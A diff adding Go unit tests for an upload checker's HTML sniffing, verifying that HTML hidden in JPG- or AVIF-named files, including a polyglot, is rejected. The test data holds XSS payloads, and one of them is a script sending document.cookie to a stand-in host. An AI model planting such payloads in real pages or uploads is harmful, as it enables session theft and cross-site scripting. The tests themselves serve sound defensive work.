@@ -0,0 +1,81 @@
+package filechecker
+
+import (
+	"bytes"
+	"testing"
+)
+
+func TestSniffsHTML(t *testing.T) {
+	tests := []struct {
+		name string
+		data []byte
+		want bool
+	}{
+		{name: "doctype", data: []byte("<!DOCTYPE html><html></html>"), want: true},
+		{name: "lower-case", data: []byte("<html><body>hi</body></html>"), want: true},
+		{name: "whitespace", data: []byte("\r\n\t  <SCRIPT>alert(1)</SCRIPT>"), want: true},
+		{name: "BOM", data: []byte("\xEF\xBB\xBF<iframe src=x>"), want: true},
+		{name: "comment", data: []byte("<!-- x --><img src=x onerror=alert(1)>"), want: true},
+		{name: "short-tag", data: []byte("<b>bold</b>"), want: true},
+		{name: "tag-prefix", data: []byte("<base href=x>"), want: false},
+		{name: "unterminated", data: []byte("<html"), want: false},
+		{name: "past-sniffed-bytes", data: append(bytes.Repeat([]byte(" "), sniffLength), "<html>"...), want: false},
+		{name: "text", data: []byte("plain text <html>"), want: false},
+		{name: "XML", data: []byte("<?xml version=\"1.0\"?><svg/>"), want: false},
+		{name: "PNG", data: testPNG(t), want: false},
+		{name: "empty", data: nil, want: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := sniffsHTML(bytes.NewReader(tt.data)); got != tt.want {
+				t.Errorf("sniffsHTML() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestFileChecker_Check_HTML(t *testing.T) {
+	tests := []struct {
+		name     string
+		filename string
+		data     []byte
+		reason   Reason
+	}{
+		{
+			name:     "HTML-as-JPG",
+			filename: "photo.jpg",
+			data:     []byte("<html><script>document.location='http://x/'+document.cookie</script></html>"),
+			reason:   ReasonHTML,
+		},
+		{
+			// filetype sees an AVIF image: "ftyp" at offset 4
+			name:     "HTML-AVIF-polyglot",
+			filename: "photo.avif",
+			data:     concat([]byte("<p> ftypavif"), make([]byte, 4), []byte("<script>alert(1)</script>")),
+			reason:   ReasonHTML,
+		},
+		{
+			name:     "JPG",
+			filename: "photo.jpg",
+			data:     testJPEG(t),
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			mpFileHeader, err := getMultipartFileHeaderFromBytes(tt.filename, tt.data)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			fc := GetFileChecker(mpFileHeader)
+			fc.SetExtensions([]string{ExtImgJPG, ExtImgAVIF})
+
+			got := fc.Check()
+			if got.Reason != tt.reason || got.Authorised != (tt.reason == ReasonNone) {
+				t.Errorf("Check() = %v (%s), want %s", got.Authorised, got.Reason, tt.reason)
+			}
+		})
+	}
+}